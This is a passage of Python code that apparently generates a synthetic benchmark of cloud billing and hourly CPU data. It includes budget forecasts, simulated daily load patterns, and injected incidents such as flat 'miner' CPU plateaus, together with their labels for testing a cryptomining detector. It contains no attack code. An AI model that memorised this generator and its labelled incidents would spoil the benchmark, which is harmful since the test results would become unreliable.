    s = c7[:, 7:] - c7[:, :-7]
    cnt = n7[:, 7:] - n7[:, :-7]
    rate = s / np.maximum(cnt, 1)
    left = np.asarray(days.days_in_month - days.day)
    return mtd + rate * left


def _nice(x: float) -> float:
    """Budgets and thresholds are round numbers people type into a config, rounded up so "just above"
    stays above."""
    step = 100.0 if x >= 5000 else 10.0 if x >= 200 else 1.0
    return float(math.ceil(x / step) * step)


def _budgets(w: _World, net: np.ndarray, gross: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
    days = w.days
    n = len(days)
    budgets = np.full(len(w.projects), np.nan)
    thresholds = np.full(len(w.projects), np.nan)
    fc = _forecasts(net, days)
    recent = slice(max(n - 35, 0), n)
    for p in w.projects:
        i = p.idx
        row_fc = fc[i, recent][~np.isnan(net[i, recent])]
        if not row_fc.size:
            continue
        normal_month = float(np.nanmean(net[i, max(n - 28, 0):])) * int(days[-1].days_in_month)
        if i in w.budget_unit:
            budget = _nice(max(1.04 * float(row_fc.max()), 1.03 * normal_month))
            k = w.budget_unit[i]
            unit = np.where(np.isnan(net[i]), np.nan, w.series.values[k])
            f = _forecasts(unit[None, :], days)[0]
            d = max(n - 3, 0)
            need = (1.08 * budget - fc[i, d]) / f[d] if f[d] > 0 else 0.0
            level = max(0.3 * float(np.nanmean(gross[i, max(n - 28, 0):])), need)
            w.series.values[k] = np.round(w.series.values[k] * level, 6)
            budgets[i] = budget
            continue
        if p.budget_draw:
            budgets[i] = _nice(p.budget_draw * max(float(row_fc.max()), normal_month))
        if p.threshold_draw:
            thresholds[i] = _nice(p.threshold_draw * float(np.nanmax(gross[i])))
    return budgets, thresholds


def _cost_frame(w: _World, node_cost: np.ndarray, hours_run: np.ndarray, missing: np.ndarray) -> pd.DataFrame:
    projects, nodes, series, days = w.projects, w.nodes, w.series, w.days
    n_days = len(days)
    n_nodes, n_series = len(nodes), len(series.project)
    # one id space: nodes first, then service/credit series
    sid_n, day_n = np.nonzero(hours_run > 0)
    vals_s = np.vstack(series.values) if n_series else np.zeros((0, n_days))
    sid_s, day_s = np.nonzero(vals_s != 0)
    sid = np.concatenate([sid_n, sid_s + n_nodes])
    day = np.concatenate([day_n, day_s])
    billed = np.concatenate([node_cost[sid_n, day_n], vals_s[sid_s, day_s]])
    factor = np.concatenate([np.asarray(nodes.discount, dtype=float), np.ones(n_series)])
    proj_of = np.asarray(nodes.project + series.project, dtype=int)
    first = np.asarray([p.first_day for p in projects])
    pj = proj_of[sid]
    keep = (day >= first[pj]) & ~missing[pj, day]
    sid, day, billed, pj = sid[keep], day[keep], billed[keep], pj[keep]
    order = np.lexsort((sid, day))
    sid, day, billed, pj = sid[order], day[order], billed[order], pj[order]

    def col(values: list[Any]) -> Any:
        return _strings(values, sid)

    def per_project(values: list[Any]) -> Any:
        return _strings(values, pj)

    svc = [_CLOUDS[projects[j].provider].services["Compute"] for j in nodes.project]
    tags = _objects(nodes.tags + series.tags)[sid]
    frame = pd.DataFrame({
        "period_start": days[day],
        "period_hours": 24.0,
        "provider": per_project([p.provider for p in projects]),
        "project_id": per_project([p.project_id for p in projects]),
        "project_name": per_project([p.name for p in projects]),
        "service": col(svc + series.service),
        "service_category": col(["Compute"] * n_nodes + series.category),
        "region": col(nodes.region + series.region),
        "charge_category": col(["Usage"] * n_nodes + series.charge),
        "resource_id": col(nodes.resource + series.resource),
        "billed_cost": billed,
        "effective_cost": np.round(billed * factor[sid], 6),
        "currency": per_project([p.currency for p in projects]),
        "tags": [dict(t) for t in tags],
        "estimated": day >= n_days - 2,
    }, copy=False)
    return _conform(frame, COST_COLUMNS, normalize_costs)


# ---------------------------------------------------------------------------------------------- usage

def _usage_frame(w: _World, rng: np.random.Generator, n_base_nodes: int, alive_all: np.ndarray) -> pd.DataFrame:
    """Hourly CPU samples of every node of a project with usage data, while the node is alive: the daily
    hump, batch windows and noise of normal operation, then the incidents' and patterns' effects on top."""
    rows, nb = _usage_rows(w, n_base_nodes)
    if len(rows) == 0:
        return normalize_usage(pd.DataFrame({c: [] for c in ("timestamp", "provider", "project", "node",
                                                              "cpu_utilization")}))
    draws = _cpu_draws(w, rng, len(rows), nb)
    proj = _take(w.nodes.project, rows, int)
    shape, noise = _cpu_shape(w, rows, proj, draws)
    cpu = _apply_ops(w, rows, shape, noise)
    return _usage_samples(w, rows, proj, cpu, alive_all[rows] & ~draws.drop)


def _usage_rows(w: _World, n_base_nodes: int) -> tuple[np.ndarray, int]:
    """Nodes with usage data, the base fleet's first, and how many of them are base fleet: the base rows'
    draws must not depend on how many incident nodes follow."""
    with_usage = np.flatnonzero([w.projects[j].has_usage for j in w.nodes.project])
    base = with_usage[with_usage < n_base_nodes]
    extra = with_usage[with_usage >= n_base_nodes]
    return np.concatenate([base, extra]), len(base)


@dataclass
class _CpuDraws:
    """The random parts of the CPU matrices, drawn before any is used."""

    z: np.ndarray  # nodes x hours standard normal noise
    day_factor: np.ndarray  # projects x days level of the day
    jitter: np.ndarray  # nodes x days level jitter of batch windows
    drop: np.ndarray  # bool nodes x hours: samples lost


def _cpu_draws(w: _World, rng: np.random.Generator, n: int, nb: int) -> _CpuDraws:
    """Random draws for the base fleet come first and have fixed shapes, so the clean fleet's CPU is the same
    with or without incidents; incident nodes' noise comes from the world's stream.  This order is the
    benchmark's data: do not reorder."""
    n_hours, n_days = w.n_hours, len(w.days)
    z = np.empty((n, n_hours))
    rng.standard_normal(out=z[:nb])
    day_factor = np.exp(rng.normal(0, 0.05, (len(w.projects), n_days)))
    jitter = np.zeros((n, n_days))
    jitter[:nb] = rng.normal(0, 1.0, (nb, n_days))
    drop = np.zeros((n, n_hours), dtype=bool)
    drop[:nb] = rng.random((nb, n_hours)) < 0.001
    w.rng.standard_normal(out=z[nb:])
    return _CpuDraws(z, day_factor, jitter, drop)


def _take(values: list[Any], rows: np.ndarray, dtype: Any = float) -> np.ndarray:
    """A node column as an array over the usage rows."""
    return np.asarray(values, dtype=dtype)[rows]


def _cpu_shape(w: _World, rows: np.ndarray, proj: np.ndarray, d: _CpuDraws) -> tuple[np.ndarray, np.ndarray]:
    """Normal CPU per usage row and hour, as shape (level x daily hump x drift, or a batch window's level)
    and noise kept apart, so incidents can scale one and not the other."""
    nodes, n_days = w.nodes, len(w.days)
    hour = np.arange(w.n_hours)
    days_i = hour // 24
    bump_p = _project_hump(w, hour)
    level_p = d.day_factor[:, days_i]
    peak, trough = _take(nodes.peak, rows), _take(nodes.trough, rows)
    drift = 1 + _take(nodes.trend, rows)[:, None] * (days_i[None, :] - n_days)
    shape = level_p[proj]
    shape *= trough[:, None] + (peak - trough)[:, None] * bump_p[proj]
    shape *= drift
    noise = d.z * _take(nodes.sigma, rows)[:, None]
    _batch_windows(np.asarray(nodes.batch, dtype=object)[rows], shape, noise, d, hour, days_i)
    return shape, noise


def _project_hump(w: _World, hour: np.ndarray) -> np.ndarray:
    """Projects x hours daily hump, at weekend level on weekends and holidays.  The hump is a property of the
    project (its users' time zone), so it is built per project and gathered per node."""
    projects, n_days = w.projects, len(w.days)
    tz = np.asarray([p.tz for p in projects])[:, None]
    peak_h = np.asarray([p.peak_hour for p in projects])[:, None]
    width = np.asarray([p.width for p in projects])[:, None]
    wkend = np.asarray([p.weekend for p in projects])[:, None]
    local = hour[None, :] + tz
    bump_p = np.exp(-0.5 * ((local % 24 - peak_h) / width) ** 2)
    off = (local // 24 + w.days[0].dayofweek) % 7 >= 5
    if w.holidays is not None:
        off |= np.take_along_axis(w.holidays, np.clip(local // 24, 0, n_days - 1), axis=1)
    bump_p *= np.where(off, wkend, 1.0)
    return bump_p


def _batch_windows(specs: np.ndarray, shape: np.ndarray, noise: np.ndarray, d: _CpuDraws, hour: np.ndarray,
                   days_i: np.ndarray) -> None:
    """Batch nodes sit at their job's level (with a daily jitter) during its UTC window every day: a nightly
    plateau a detector must not take for a miner.  Changes ``shape`` and ``noise`` in place."""
    for r, spec in enumerate(specs):
        if spec is None:
            continue
        h_utc, dur, level = spec
        at = ((hour % 24) >= h_utc) & ((hour % 24) < h_utc + dur)
        shape[r, at] = level + d.jitter[r, days_i[at]]
        noise[r, at] = 0.7 * d.z[r, at]


def _apply_ops(w: _World, rows: np.ndarray, shape: np.ndarray, noise: np.ndarray) -> np.ndarray:
    """CPU after the incidents' and patterns' effects, clipped and rounded as an export has it.  Surges and
    steps change the normal shape first; pins, floors and saturation then overwrite the summed CPU, so they
    are what the samples show."""
    pos = {int(node): r for r, node in enumerate(rows)}
    cpu = None
    for op in sorted(w.ops, key=lambda o: o.kind in ("pin", "floor", "saturate")):
        rr = np.asarray([pos[i] for i in op.rows if i in pos], dtype=int)
        if rr.size == 0:
            continue
        if op.kind in ("pin", "floor", "saturate") and cpu is None:
            cpu = shape + noise
        if op.kind in ("scale", "step"):
            _reshape(op, rr, shape, noise)
        else:
            if cpu is None:
                raise ValueError(f"scenario op {op.kind!r} changes CPU, but the scenario has no CPU matrix")
            _overwrite(op, rr, cpu, w.rng)
    if cpu is None:
        cpu = shape + noise
    return np.round(np.clip(cpu, 0.0, 100.0), 2)


def _reshape(op: _CpuOp, rr: np.ndarray, shape: np.ndarray, noise: np.ndarray) -> None:
    """A surge (ramped over three hours each way, saturating towards 90%, noise growing with the load) or a
    step of the normal shape, in place."""
    sl = slice(op.t0, op.t1)
    if op.kind == "scale":
        t = np.arange(op.t0, op.t1)
        ramp = np.clip(np.minimum(t - op.t0 + 1, op.t1 - t) / 3.0, 0, 1)
        m = 1 + (op.level - 1) * ramp
        shape[rr, sl] = _soft_cap(shape[rr, sl] * m[None, :])
        noise[rr, sl] = noise[rr, sl] * np.sqrt(m)[None, :]
    else:
        shape[rr, sl] *= op.level


def _overwrite(op: _CpuOp, rr: np.ndarray, cpu: np.ndarray, rng: np.random.Generator) -> None:
    """A flat level with small noise: replacing the CPU (a new node's miner or job), or as a floor under it
    (a miner beside the node's own work), in place."""
    sl = slice(op.t0, op.t1)
    flat = op.level + op.std * rng.standard_normal((rr.size, op.t1 - op.t0))
    if op.kind == "saturate":  # capped at 100%: flat because of the ceiling, not because of a miner
        flat = np.minimum(flat, 100.0)
    cpu[rr, sl] = flat if op.kind == "pin" else np.maximum(cpu[rr, sl], flat)


def _usage_samples(w: _World, rows: np.ndarray, proj: np.ndarray, cpu: np.ndarray, keep: np.ndarray,
                   ) -> pd.DataFrame:
    """The usage frame of the samples ``keep`` marks (node alive and sample not lost), in the model's columns
    and dtypes."""
    nodes, projects = w.nodes, w.projects
    r_idx, t_idx = np.nonzero(keep)

    def per_node(values: list[Any]) -> Any:
        return _strings(values, rows[r_idx])

    node_proj = proj[r_idx]
    frame = pd.DataFrame({
        "timestamp": pd.date_range(w.days[0], periods=w.n_hours, freq="h")[t_idx],
        "provider": _strings([p.provider for p in projects], node_proj),
        "project": _strings([p.project_id for p in projects], node_proj),
        "node": per_node(nodes.name),
        "cpu_utilization": cpu[r_idx, t_idx],
        "cluster": per_node(nodes.cluster),
        "region": per_node(nodes.region),
        "instance_type": per_node(nodes.itype),
    }, copy=False)
    return _conform(frame, USAGE_COLUMNS, normalize_usage)


def _conform(frame: pd.DataFrame, columns: dict[str, str], normalize: Any) -> pd.DataFrame:
    """The frames are built with the model's dtypes already; re-normalizing millions of rows would double
    the generation time, so the model's own normalizer only runs if the model has moved on."""
    if list(frame.columns) == list(columns) and all(str(frame[c].dtype) == d for c, d in columns.items()):
        return frame
    out: pd.DataFrame = normalize(frame)
    return out


def _objects(values: list[Any]) -> np.ndarray:
    arr = np.empty(len(values), dtype=object)
    arr[:] = values
    return arr


def _strings(values: list[Any], idx: np.ndarray) -> Any:
    """A pandas string column by taking from the distinct values: building the object column first and
    letting the DataFrame consolidate it costs seconds at benchmark sizes."""
    return pd.array(_objects(values)[idx], dtype="string")


def _soft_cap(x: np.ndarray) -> np.ndarray:
    """Saturate towards 90%: a busy service slows down rather than drawing a flat line at a ceiling."""
    return np.where(x <= 70.0, x, 70.0 + 20.0 * np.tanh((x - 70.0) / 20.0))


def _incident_frame(labels: list[dict[str, Any]]) -> pd.DataFrame:
    cols = ["id", "kind", "project_id", "provider", "start", "end", "nodes", "region", "is_mining", "description"]
    if not labels:
        return pd.DataFrame({
            "id": pd.Series(dtype="string"), "kind": pd.Series(dtype="string"),
            "project_id": pd.Series(dtype="string"), "provider": pd.Series(dtype="string"),
            "start": pd.Series(dtype="datetime64[ns, UTC]"), "end": pd.Series(dtype="datetime64[ns, UTC]"),
            "nodes": pd.Series(dtype=object), "region": pd.Series(dtype="string"),
            "is_mining": pd.Series(dtype=bool), "description": pd.Series(dtype="string"),
        })
    df = pd.DataFrame(labels)[cols]
    for c in ("id", "kind", "project_id", "provider", "region", "description"):
        df[c] = df[c].astype("string")
    for c in ("start", "end"):
        df[c] = pd.to_datetime(df[c], utc=True).astype("datetime64[ns, UTC]")
    df["is_mining"] = df["is_mining"].astype(bool)
    return df
